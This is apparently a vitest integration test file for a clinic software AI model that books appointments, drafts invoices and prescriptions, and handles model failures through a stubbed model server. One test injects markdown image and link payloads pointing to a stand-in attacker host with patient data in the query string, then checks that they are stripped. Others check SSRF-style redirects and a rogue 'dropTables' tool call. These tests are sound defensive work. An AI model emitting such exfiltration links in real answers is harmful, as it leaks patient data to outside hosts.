import { randomUUID } from 'node:crypto'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { requestAnswer, failuresOf, noticesOf, postQuestion, resultsOf, textOf } from '../../testing/assistant.ts'
import type { Clinic } from '../../testing/clinic.ts'
import { addEvents, createClinic, insert } from '../../testing/clinic.ts'
import type { ModelServer, ModelAnswer } from '../../testing/stand-ins/model-server.ts'
import { openModelServer, toolAnswers } from '../../testing/stand-ins/model-server.ts'
import { at } from '../../testing/contract/operations.ts'
import { addDocuments } from '../../testing/documents.ts'
import type { TestServer, Session } from '../../testing/server.ts'
import { openTestServer } from '../../testing/server.ts'

/** A real server asked over HTTP, and a model that says what the test has it say. */

let model: ModelServer
let server: TestServer
let home: Clinic
let suda: Session

beforeAll(async () => {
  model = await openModelServer()
  server = await openTestServer({ AI_BASE_URL: model.address, AI_MODEL: 'stub', AI_API_KEY: 'the key' })
  server.app.limits.assistant.points = 10_000
})
afterAll(async () => {
  await server.close()
  await model.close()
})
beforeEach(async () => {
  home = await createClinic(server.owner)
  suda = await server.signIn(home.admin.email)
  server.app.models.timeouts = { firstByte: 5_000, idle: 5_000, turn: 10_000 }
  model.asked = []
  model.abandoned = 0
})

const patient = { timeout: 10_000 }

/** One answer after the other, the last again and again. */
const script = (...said: ModelAnswer[]) => (model.answer = (_asked, step) => said[Math.min(step, said.length - 1)] ?? {})
const tool = (name: string, given: unknown): ModelAnswer => ({ tools: [{ name, arguments: given }] })
const ask = (text: string, more = {}) => requestAnswer(server, suda, { text, ...more })

describe('an answer', () => {
  test('streams as words, and says what it cost', async () => {
    script({ text: ['Good ', 'morning', '.'], usage: { prompt_tokens: 50, completion_tokens: 7 } })
    const events = await ask('Hello')
    expect(events[0]).toMatchObject({ type: 'start', model: 'stub' })
    expect(textOf(events)).toBe('Good morning.')
    expect(events.at(-1)).toEqual({ type: 'end', usage: { inputTokens: 50, outputTokens: 7, toolCalls: 0 } })
    expect(model.authorization.at(-1)).toBe('Bearer the key')
    expect(model.asked[0]?.tools.map((each) => each.function.name)).toHaveLength(11)
  })

  test('comes from what a tool read', async () => {
    await addEvents(server.owner, home, [{ at: at('09:00') }, { at: at('10:00'), patientId: home.malee.patientId }])
    script(tool('listAppointments', { date: '2031-03-03' }), { text: ['Two.'] })
    const events = await ask('Who comes on 3 March 2031?')
    const [result] = resultsOf(events)
    expect(result).toMatchObject({
      kind: 'appointments',
      totalCount: 2,
      rows: [{ patient: { name: 'สมชาย ใจดี' }, doctor: { name: 'Ploy Srisuk' } }, { patient: { name: 'Malee Thongdee' } }],
    })
    expect(events.map((event) => (event.type === 'tool' ? event.state : event.type))).toEqual([
      'start',
      'running',
      'done',
      'text',
      'end',
    ])
    expect(JSON.parse(toolAnswers(model.asked[1] as never)[0] ?? '')).toMatchObject({ kind: 'appointments', totalCount: 2 })
    expect(textOf(events)).toBe('Two.')
  })

  test('takes several steps, and several tools in one', async () => {
    script(
      {
        text: ['Let me look. '],
        tools: [
          { name: 'findPatient', arguments: { query: 'Malee' } },
          { name: 'listFreeSlots', arguments: { doctor: 'Dr Krit', date: '2031-03-03', from: '13:00', to: '15:00' } },
        ],
      },
      tool('summarizePatient', { patient: home.malee.patientId }),
      { text: ['Done.'] },
    )
    const events = await ask('Malee?')
    expect(resultsOf(events).map(({ kind }) => kind)).toEqual(['patients', 'freeSlots', 'patientSummary'])
    expect(resultsOf(events)[1]).toMatchObject({ doctor: { name: 'Krit Boonmee' }, slots: { length: 7 } })
    expect(textOf(events)).toBe('Let me look. Done.')
    expect(events.at(-1)).toMatchObject({ usage: { inputTokens: 300, outputTokens: 60, toolCalls: 3 } })
  })

  test('knows what was said before', async () => {
    script(tool('findPatient', { query: 'Malee' }), { text: ['There she is.'] })
    const [start] = await ask('Find Malee')
    const { conversationId } = start as { conversationId: string }
    script({ text: ['Her.'] })
    await ask('Who?', { conversationId })
    const { messages } = model.asked.at(-1) as { messages: { role: string; content: string }[] }
    expect(messages.map(({ role }) => role)).toEqual(['system', 'user', 'assistant', 'tool', 'assistant', 'user'])
    expect(messages[3]?.content).toContain(home.malee.patientId)
  })

  test('is asked for in the language of the page', async () => {
    script({ text: ['สวัสดีค่ะ'] })
    await ask('สวัสดี', { language: 'th' })
    const [system] = model.asked.at(-1)?.messages ?? []
    expect(system?.content).toContain('Answer in Thai')
    expect(system?.content).toContain('Asia/Bangkok')
  })

  test('is plain text: addresses are taken out wherever they are cut, marks stay marks', async () => {
    script({
      text: [
        'See ![x](htt',
        'ps://evil.example/?d=',
        'Malee) or <img src=//evil.example/a> now, ',
        'www.evil.example',
        ' ตกลงค่ะ',
      ],
    })
    const text = textOf(await ask('Hello'))
    expect(text).not.toContain('evil')
    expect(text).toContain('ตกลงค่ะ')
    expect(text).toContain('<img src=')
  })
})

describe('a proposal', () => {
  const day = '2031-03-03'
  const proposed = async (name: string, given: object) => {
    script(tool(name, given), { text: ['Please look at the form.'] })
    const before = await rows()
    const events = await ask('Please')
    expect(await rows()).toEqual(before)
    return resultsOf(events)[0]
  }
  const rows = async () =>
    (
      await server.owner.query(
        `SELECT (SELECT count(*) FROM event) e, (SELECT sum(version) FROM event) v, (SELECT count(*) FROM invoice) i, (SELECT count(*) FROM prescription) p`,
      )
    ).rows[0]

  test('of an appointment fills in what createEvents takes, and names what is in the way', async () => {
    const [taken] = await addEvents(server.owner, home, [{ at: at('09:00') }])
    const result = await proposed('proposeAppointment', {
      patient: 'Malee',
      doctor: 'หมอ Ploy',
      date: day,
      time: '09:15',
      note: 'Cough',
    })
    expect(result).toMatchObject({
      kind: 'proposal',
      action: 'book',
      input: {
        establishmentId: home.id,
        patientId: home.malee.patientId,
        doctorId: home.ploy.doctorId,
        startTime: '2031-03-03T02:15:00.000Z',
        endTime: '2031-03-03T02:45:00.000Z',
        subject: 'Malee Thongdee',
        category: 'consultation',
        info: 'Cough',
      },
      labels: { patient: 'Malee Thongdee', doctor: 'Ploy Srisuk' },
      conflicts: [{ id: taken, patientName: 'สมชาย ใจดี', subject: 'Check-up' }],
    })
  })

  test('is written by the person alone, with their own session, as it stands', async () => {
    const result = await proposed('proposeAppointment', { patient: 'Malee', doctor: 'Ploy', date: day, time: '14:00' })
    const document = 'mutation ($input: [CreateEventInput!]!) { createEvents(input: $input) { id startTime } }'
    const { data, errors } = await server.graphql(suda, document, { input: [(result as { input: object }).input] })
    expect(errors).toBeUndefined()
    expect(data.createEvents[0].startTime).toBe('2031-03-03T07:00:00.000Z')
  })

  test('of a move keeps the length, and carries the version', async () => {
    const [id] = await addEvents(server.owner, home, [{ at: at('09:00'), minutes: 45 }])
    const result = await proposed('proposeMove', {
      patient: 'สมชาย',
      date: day,
      toTime: '16:30',
      toDate: '2031-03-04',
      toDoctor: 'Krit',
    })
    expect(result).toMatchObject({
      action: 'move',
      input: {
        id,
        version: 1,
        startTime: '2031-03-04T09:30:00.000Z',
        endTime: '2031-03-04T10:15:00.000Z',
        doctorId: home.krit.doctorId,
      },
      labels: { patient: 'สมชาย ใจดี', doctor: 'Krit Boonmee' },
      conflicts: [],
      appointment: { id, startTime: '2031-03-03T02:00:00.000Z' },
    })
    const document = 'mutation ($input: [UpdateEventInput!]!) { updateEvents(input: $input) { id startTime doctor { id } } }'
    const { data } = await server.graphql(suda, document, { input: [(result as { input: object }).input] })
    expect(data.updateEvents[0].doctor.id).toBe(home.krit.doctorId)
  })

  test('of a cancellation', async () => {
    const [id] = await addEvents(server.owner, home, [{ at: at('09:00') }, { at: at('10:00') }])
    const result = await proposed('proposeCancel', { patient: 'สมชาย ใจดี', date: day, time: '09:00' })
    expect(result).toMatchObject({ action: 'cancel', input: { id, version: 1, status: 'cancelled' } })
    const document = 'mutation ($input: [UpdateEventInput!]!) { updateEvents(input: $input) { status } }'
    const input = [{ ...(result as { input: object }).input, cancelReason: 'patient' }]
    expect((await server.graphql(suda, document, { input })).data.updateEvents[0].status).toBe('cancelled')
  })

  test('of an invoice', async () => {
    const lines = [
      { description: 'Check-up', unitPrice: 850 },
      { description: 'Vaccine', quantity: 2, unitPrice: '120.50' },
    ]
    const result = await proposed('proposeInvoice', { patient: 'Malee', lines })
    expect(result).toMatchObject({
      action: 'invoice',
      input: {
        patientId: home.malee.patientId,
        status: 'draft',
        currency: 'THB',
        invoiceDetails: [
          { medicalService: 'Check-up', quantity: 1, price: '850' },
          { quantity: 2, price: '120.50' },
        ],
      },
    })
    const document = 'mutation ($input: CreateInvoiceInput!) { createInvoice(input: $input) { totalAmount status } }'
    const { data } = await server.graphql(suda, document, { input: (result as { input: object }).input })
    expect(data.createInvoice).toEqual({ totalAmount: '1091.00', status: 'draft' })
  })

  test('of a prescription: an admin names the doctor or is asked, a doctor writes their own', async () => {
    const lines = [{ medication: 'Paracetamol 500 mg', quantity: 20, dosage: '1 x 3' }]
    const open = await proposed('proposePrescription', { patient: 'Malee', lines })
    expect(open).toMatchObject({ action: 'prescription', input: { doctorId: null }, labels: { doctor: null } })
    const named = await proposed('proposePrescription', { patient: 'Malee', doctor: 'Ploy', lines })
    expect(named).toMatchObject({ input: { doctorId: home.ploy.doctorId, prescriptionDetails: [{ description: '1 x 3' }] } })
    const document = 'mutation ($input: CreatePrescriptionInput!) { createPrescription(input: $input) { status } }'
    expect((await server.graphql(suda, document, { input: (named as { input: object }).input })).errors).toBeUndefined()
    const ploy = await server.signIn(home.ploy.email)
    script(tool('proposePrescription', { patient: 'Malee', lines }), { text: ['.'] })
    expect(resultsOf(await requestAnswer(server, ploy, {}))[0]).toMatchObject({ input: { doctorId: home.ploy.doctorId } })
    script(tool('proposePrescription', { patient: 'Malee', doctor: 'Krit', lines }), { text: ['.'] })
    expect(failuresOf(await requestAnswer(server, ploy, {}))).toEqual(['FORBIDDEN'])
  })

  test('needs the right to send it', async () => {
    const ploy = await server.signIn(home.ploy.email)
    script(tool('proposeAppointment', { patient: 'Malee', doctor: 'Krit', date: day, time: '09:15' }), { text: ['No.'] })
    const events = await requestAnswer(server, ploy, {})
    expect(failuresOf(events)).toEqual(['FORBIDDEN'])
    expect(textOf(events)).toBe('No.')
  })
})

describe('who is meant', () => {
  test('is asked where several match, and never guessed', async () => {
    await server.owner.query(`UPDATE patient SET "firstName" = 'Malee', "lastName" = 'Srisuk' WHERE id = $1`, [
      home.somchai.patientId,
    ])
    script(tool('summarizePatient', { patient: 'Malee' }), { text: ['Which Malee?'] })
    const events = await ask('Malee')
    expect(resultsOf(events)[0]).toMatchObject({
      kind: 'choice',
      of: 'patient',
      argument: 'patient',
      candidates: [{ label: expect.stringContaining('Malee') }, { label: expect.stringContaining('Malee') }],
    })
    const call = { tool: 'summarizePatient', arguments: { patient: home.somchai.patientId } }
    const picked = await ask('Malee Srisuk', { call })
    expect(picked[0]).toMatchObject({ type: 'start', model: null })
    expect(resultsOf(picked)[0]).toMatchObject({ kind: 'patientSummary', patient: { name: 'Malee Srisuk' } })
    expect(
      resultsOf(await ask('x', { call: { tool: 'summarizePatient', arguments: { patient: 'คุณMalee Srisuk' } } }))[0]?.kind,
    ).toBe('patientSummary')
  })

  test('also of appointments', async () => {
    const ids = await addEvents(server.owner, home, [{ at: at('09:00') }, { at: at('10:00'), subject: 'Stitches' }])
    script(tool('proposeCancel', { patient: 'สมชาย', date: '2031-03-03' }), { text: ['Which?'] })
    expect(resultsOf(await ask('Cancel'))[0]).toEqual({
      kind: 'choice',
      of: 'appointment',
      argument: 'appointment',
      candidates: [
        { id: ids[0], label: '09:00 · สมชาย ใจดี · Ploy Srisuk · Check-up' },
        { id: ids[1], label: '10:00 · สมชาย ใจดี · Ploy Srisuk · Stitches' },
      ],
    })
  })

  test('may be nobody', async () => {
    script(tool('summarizePatient', { patient: 'Nobody' }), { text: ['.'] })
    expect(resultsOf(await ask('?'))[0]).toEqual({ kind: 'nothing', about: 'patient', words: 'Nobody' })
  })
})

describe('a model that', () => {
  test('is away', async () => {
    script({ status: 503 })
    expect(noticesOf(await ask('zzz'))).toEqual(['modelDown', 'notUnderstood'])
  })

  test('says nothing at all', async () => {
    script({})
    expect(noticesOf(await ask('zzz'))).toEqual(['modelDown', 'notUnderstood'])
  })

  test('is told the beginning of what is long, the person all of it', async () => {
    const notes = 'n'.repeat(3_900)
    await server.owner.query('UPDATE patient SET notes = $1, alerts = $1 WHERE id = $2', [notes, home.malee.patientId])
    const doses = Array.from({ length: 20 }, (_, position) => ({
      id: randomUUID(),
      position,
      medication: 'X',
      quantity: 1,
      description: notes,
    }))
    const { issuedPrescription } = await addDocuments(server.owner, { ...home, somchai: home.malee })
    await server.owner.query('DELETE FROM prescription_detail WHERE "prescriptionId" = $1', [issuedPrescription])
    await insert(
      server.owner,
      'prescription_detail',
      doses.map((dose) => ({ ...dose, prescriptionId: issuedPrescription })),
    )
    script(tool('summarizePatient', { patient: 'Malee' }), { text: ['.'] })
    const [result] = resultsOf(await ask('Malee'))
    expect(JSON.stringify(result).length).toBeGreaterThan(80_000)
    expect(toolAnswers(model.asked.at(-1) as never)[0]?.length).toBeLessThan(20_000)
  })

  test('refuses for now', async () => {
    script({ status: 429 })
    expect(noticesOf(await ask('zzz'))[0]).toBe('rateLimited')
  })

  test('sends its caller elsewhere is not followed', async () => {
    script({ status: 307, headers: { location: `http://127.0.0.1:${server.port}/api/get-my-ip-address` } })
    expect(noticesOf(await ask('zzz'))[0]).toBe('modelDown')
  })

  test.each([999, 204, 101, 418])('answers with status %i', async (status) => {
    script({ status, headers: { connection: 'upgrade', upgrade: 'elsewhere' } })
    expect(noticesOf(await ask('zzz'))[0]).toBe('modelDown')
  })

  test('does not begin, or falls silent', async () => {
    server.app.models.timeouts = { firstByte: 60, idle: 60, turn: 10_000 }
    script({ silent: 400, text: ['late'] })
    expect(noticesOf(await ask('zzz'))[0]).toBe('modelSlow')
    server.app.models.timeouts = { firstByte: 10_000, idle: 60, turn: 20_000 }
    script({ text: ['One moment '], hangs: true })
    const events = await ask('zzz')
    expect([textOf(events), noticesOf(events)]).toEqual(['One moment ', ['modelSlow']])
    expect(model.abandoned).toBe(2)
  })

  test('takes too long in all', async () => {
    server.app.models.timeouts = { firstByte: 5_000, idle: 5_000, turn: 600 }
    script({ text: ['Hm '], hangs: true })
    expect(noticesOf(await ask('zzz'))).toEqual(['modelSlow'])
  })

  test('breaks off', async () => {
    script({ text: ['Half an '], breaksOff: true })
    const events = await ask('zzz')
    expect([textOf(events), noticesOf(events)]).toEqual(['Half an ', ['modelDown']])
    script({ raw: 'data: {"choices":[{"delta":{"content":"Half "}}]}\n\n' })
    expect(noticesOf(await ask('zzz'))).toEqual(['modelDown'])
    script({ raw: 'data: nonsense\n\n' })
    expect(noticesOf(await ask('zzz'))[0]).toBe('modelDown')
  })

  test('sends wrong arguments may correct itself, and is stopped when it does not', async () => {
    script(tool('getRevenue', { from: 'yesterday', to: 5 }), tool('getRevenue', { from: '2031-01-01', to: '2031-01-31' }), {
      text: ['None.'],
    })
    const events = await ask('Revenue')
    expect(resultsOf(events)[0]).toEqual({ kind: 'revenue', from: '2031-01-01', to: '2031-01-31', sums: [] })
    expect(toolAnswers(model.asked[1] as never)[0]).toMatch(/from: invalid_date/)
    script(tool('getRevenue', '{"from'))
    expect(noticesOf(await ask('zzz'))[0]).toBe('badToolCall')
    script(tool('dropTables', {}))
    expect(noticesOf(await ask('zzz'))[0]).toBe('badToolCall')
  })

  test('never comes to an end', async () => {
    script(tool('findPatient', { query: 'Malee' }))
    const events = await ask('zzz')
    expect(noticesOf(events)).toEqual(['tooManySteps'])
    expect(resultsOf(events)).toHaveLength(8)
    script({ tools: Array.from({ length: 40 }, () => ({ name: 'findPatient', arguments: { query: 'Malee' } })) })
    expect(noticesOf(await ask('zzz'))).toContain('tooManySteps')
    script({ text: Array.from({ length: 60 }, () => 'long '.repeat(200)) })
    const long = await ask('zzz')
    expect(noticesOf(long)).toEqual(['tooManySteps'])
    expect(textOf(long).length).toBeLessThanOrEqual(20_000)
  })
})

test('whoever stops listening stops the model, and what was said is kept', async () => {
  script({ text: ['The beginning '], hangs: true })
  const stop = new AbortController()
  const response = await postQuestion(server, suda, { text: 'Tell me' }, { signal: stop.signal })
  const reader = response.body?.getReader()
  let seen = ''
  while (!seen.includes('beginning')) seen += new TextDecoder().decode((await reader?.read())?.value)
  stop.abort()
  await expect.poll(() => model.abandoned, patient).toBe(1)
  const { conversationId } = JSON.parse(seen.split('\n')[0]?.slice(6) ?? '') as { conversationId: string }
  const document = 'query ($id: ID!) { assistantConversation(id: $id) { messages { role text } } }'
  const messages = async () =>
    (await server.graphql(suda, document, { id: conversationId })).data.assistantConversation.messages as object[]
  await expect.poll(messages, patient).toEqual([
    { role: 'user', text: 'Tell me' },
    { role: 'assistant', text: 'The beginning ' },
  ])
  const used = await server.graphql(suda, '{ assistantSettings { tokensUsedToday } }')
  expect(used.data.assistantSettings.tokensUsedToday).toBeGreaterThan(100)
})

test('a server that closes ends its answers', async () => {
  const closing = await openTestServer({ AI_BASE_URL: model.address, AI_MODEL: 'stub' }, server)
  script({ text: ['The beginning '], hangs: true })
  const response = await postQuestion(closing, suda, {})
  const said = response.text()
  await expect.poll(() => model.asked.length, patient).toBe(1)
  closing.app.models.closing.abort()
  expect(await said).toContain('"start"')
  await expect.poll(() => model.abandoned, patient).toBe(1)
  await closing.close()
})
